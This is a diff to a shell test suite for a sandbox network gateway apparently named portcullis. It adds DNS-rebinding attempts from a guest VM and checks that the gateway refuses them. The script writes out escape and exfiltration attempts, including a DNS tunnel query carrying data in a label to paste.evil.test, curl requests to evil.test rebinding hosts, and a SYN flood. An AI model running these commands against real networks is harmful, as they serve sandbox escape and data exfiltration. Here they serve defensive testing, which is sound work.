@@ -11,10 +11,11 @@
 # spoofing with the guest kernel's own stack, ARP and ND spoofing, DHCP,
 # resource exhaustion (SYN flood, then the control again), IP fragments
 # (IPv4 tiny, overlapping, lone non-first; IPv6 tiny), VLAN tags (802.1Q,
-# QinQ), a DNS tunnel through the configured resolver (label, TXT), and
-# IPv6 autoconfiguration (the guest solicits a router advertisement).
-# Not yet from the VM: a router advertisement sent by the guest, DNS
-# rebinding, the vault classes (the namespace suite still runs them).
+# QinQ), a DNS tunnel through the configured resolver (label, TXT),
+# IPv6 autoconfiguration (the guest solicits a router advertisement), DNS
+# rebinding (allowed names answering a metadata or a private address).
+# Not yet from the VM: a router advertisement sent by the guest, the vault
+# classes (the namespace suite still runs them).
 set -u
 export PC_TOP=${PC_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
 command -v qemu-system-x86_64 >/dev/null ||
@@ -61,6 +62,10 @@ $C vlan --dst 203.0.113.99 --dport 80 --vid 9 --qinq >/dev/null 2>&1; ok qinq $?
 # a DNS tunnel through the configured resolver: data in a label, a TXT query
 $C dns --server 198.51.100.53 --name x7f3a9c2e.paste.evil.test >/dev/null 2>&1; ok dns-label $?
 $C dns --server 198.51.100.53 --name api.github.test --qtype TXT >/dev/null 2>&1; ok dns-txt $?
+# DNS rebinding: allowed names whose answers are a metadata service and a
+# private host
+curl -sk --max-time 8 https://meta.evil.test/ >/dev/null 2>&1; ok rebind-meta $?
+curl -sk --max-time 8 https://internal.evil.test/ >/dev/null 2>&1; ok rebind-internal $?
 $C synflood --dst 203.0.113.99 --dport 443 --count 2000 >/dev/null 2>&1; ok synflood $?
 curl -sS --max-time 20 --local-port 40003 -o /dev/null -w 'ctl-after %{http_code}\n' https://api.github.test/ 2>&1
 # IPv6 autoconfiguration, last (taking the link down drops its addresses):
@@ -80,13 +85,24 @@ $(cat "$ESC_CRAFT")
 PORTCULLIS_CRAFT_END
 $(cat "$LAB_DIR/vm-escape.sh")"
 # every attempt ran in the one boot: the capture is read from its start
-reasm() { lab_gw nstat -az "$1" | awk -v k="$1" '$1 == k {print $2}'; }
+# a counter of the gateway's /proc/net/snmp or netstat (IpReasmFails,
+# IpExtReasmOverlaps, ...), read directly: nstat keeps a history file that
+# other runs on this machine share
+reasm() {
+	lab_gw cat /proc/net/snmp /proc/net/netstat | awk -v k="$1" '
+		$1 ~ /:$/ { p = substr($1, 1, length($1) - 1)
+			if (!(p in hdr)) { for (i = 2; i <= NF; i++) hdr[p] = hdr[p] " " $i; next }
+			split(hdr[p], h, " "); for (i = 2; i <= NF; i++) if (p h[i - 1] == k) v = $i }
+		END { print v + 0 }'
+}
 F0=$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps))) Q0=$(reasm IpReasmReqds)
+echo "# gateway before the boot: IpReasmReqds $Q0, IpReasmFails+IpExtReasmOverlaps $F0"
 T_BOOT=$(date +%s.%N)
 vm_begin() { esc_begin "$1"; ESC_T0=$T_BOOT; }
 vm_begin "boot a VM and run the attempts in it"
 OUT=$(gw_pc sandbox run --vm --kernel "$IMG/vmlinuz" --initrd "$IMG/initrd.img" --name vmesc \
-	--allow api.github.test --env ESC_GW_MAC="$ESC_GW_MAC" -- sh -c "$SCRIPT" 2>&1) && RC=0 || RC=$?
+	--allow api.github.test --allow meta.evil.test --allow internal.evil.test \
+	--env ESC_GW_MAC="$ESC_GW_MAC" -- sh -c "$SCRIPT" 2>&1) && RC=0 || RC=$?
 t_eq "the guest ran the attempts (exit 0)" 0 "$RC"
 printf '%s\n' "$OUT" | grep -E '^(result|ctl-)' | t_diag "$(cat)"
 t_match "the guest's crafter ran (python3 in the image)" "result direct-syn 0" "$OUT"
@@ -144,6 +160,7 @@ esc_expect_nothing "fragments to $LAB_PASTE4" "dst host $LAB_PASTE4"
 esc_expect_nothing "IPv6 fragments to $LAB_CDN6 (an address no name resolved to for this guest)" "ip6 and dst host $LAB_CDN6"
 t_eq "no allowed record toward $LAB_PASTE4" "" \
 	"$(guard_records | grep '"event.outcome":"success"' | grep -F "\"destination.ip\":\"$LAB_PASTE4\"" || true)"
+t_diag "gateway after the boot: IpReasmReqds $(reasm IpReasmReqds), IpReasmFails+IpExtReasmOverlaps $(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))"
 t_lt "the gateway's kernel threw the overlap away (IpReasmFails, IpExtReasmOverlaps)" "$F0" \
 	"$(($(reasm IpReasmFails) + $(reasm IpExtReasmOverlaps)))"
 t_lt "and held the lone non-first fragment for a reassembly that never came (IpReasmReqds)" "$Q0" \
@@ -162,6 +179,16 @@ t_eq "the resolver never saw a TXT query" 0 \
 	"$(grep -c 'query\[TXT\]' "$LAB_DIR/dnsmasq.log" | tr -d ' ')"
 t_match "the refused lookups are in the log" "x7f3a9c2e\.paste\.evil\.test" "$(gw_pc log show | tr '\n' ' ')"
 esc_end "REFUSED" "dnsmasq log: neither query; portcullis log"
+
+vm_begin "DNS rebinding: allowed names answering $LAB_META4 (metadata service) and $LAB_INTERNAL4 (RFC 1918)"
+t_match "the guest's fetch of meta.evil.test failed" "result rebind-meta [1-9]" "$OUT"
+t_match "the guest's fetch of internal.evil.test failed" "result rebind-internal [1-9]" "$OUT"
+esc_expect_nothing "to the metadata address" "dst host $LAB_META4"
+esc_expect_nothing "to the private address" "dst host $LAB_INTERNAL4"
+r=$(guard_records | grep -F "\"destination.ip\":\"$LAB_META4\"" | tail -1 |
+	python3 -c 'import json,sys; l=sys.stdin.read().strip(); print(json.loads(l).get("event.reason","") if l else "(no record)")')
+t_eq "refused: the answer's address was not learned" "no allowed name resolved to this address" "$r"
+esc_end "refused" "nothing upstream; log: \"$r\""
 
 vm_begin "IPv6 autoconfiguration: the guest's kernel accepts router advertisements and solicits one"
 t_match "the guest got no autoconfigured address" "slaac 0" "$OUT"
